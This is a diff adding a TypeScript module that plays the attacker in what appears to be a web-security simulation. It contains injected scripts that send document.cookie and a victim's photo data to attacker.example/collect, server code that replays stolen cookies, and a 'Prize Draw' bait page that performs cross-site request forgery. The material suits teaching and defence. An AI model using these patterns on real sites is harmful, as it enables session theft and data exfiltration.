@@ -1,0 +1,45 @@
+/** The attacker: a page with a form that posts to the app, a script that got into the app’s page, and a server that collects. */
+import { type HttpHandler, html, json, markup, parseForm } from '../../http/index.ts'
+import type { ServerGlobals, TabGlobals } from '../../simulation/index.ts'
+import { appPage } from '../app-page.ts'
+import { APP } from '../cast.ts'
+
+/** URL origin of the attacker. */
+export const ATTACKER = 'https://attacker.example'
+
+/** The attacker's server: shows the bait, and tries whatever cookie an injected script sends. */
+export function createAttacker(globals: ServerGlobals, keep: (loot: string) => void): HttpHandler {
+  return async (request) => {
+    if (request.method === 'GET') return html(200, baitPage())
+    const sent = new Map(parseForm(request.body))
+    keep(sent.get('data') ?? (await tryCookie(globals, sent.get('cookie') ?? '')))
+    // Any page may send: the injected script runs in somebody else’s.
+    return json(200, {}, [['access-control-allow-origin', '*']])
+  }
+}
+
+/** Uses a stolen cookie from the attacker's own computer. */
+async function tryCookie(globals: ServerGlobals, cookie: string): Promise<string> {
+  if (cookie === '') return 'no cookie'
+  return (await globals.fetch(`${APP}/api/photos`, { headers: { cookie } })).text()
+}
+
+/** The injected script: sends away what cookies it can read. */
+export async function stealCookie({ document, fetch }: TabGlobals): Promise<void> {
+  await fetch(`${ATTACKER}/collect`, { method: 'POST', body: new URLSearchParams({ cookie: document.cookie }) })
+}
+
+/** The injected script: asks the backend from inside the page and sends the answer away. */
+export async function rideSession({ fetch }: TabGlobals): Promise<void> {
+  const data = await (await fetch('/api/photos', { headers: { 'x-csrf': '1' } })).text()
+  await fetch(`${ATTACKER}/collect`, { method: 'POST', body: new URLSearchParams({ data }) })
+}
+
+function baitPage(): string {
+  return appPage({
+    app: 'Prize Draw',
+    title: 'You have won',
+    body: markup`<p>One click, and it is yours.</p>
+<form id="prize" method="post" action="${APP}/api/orders"><div class="actions"><button type="submit" class="primary">Get it</button></div></form>`,
+  })
+}
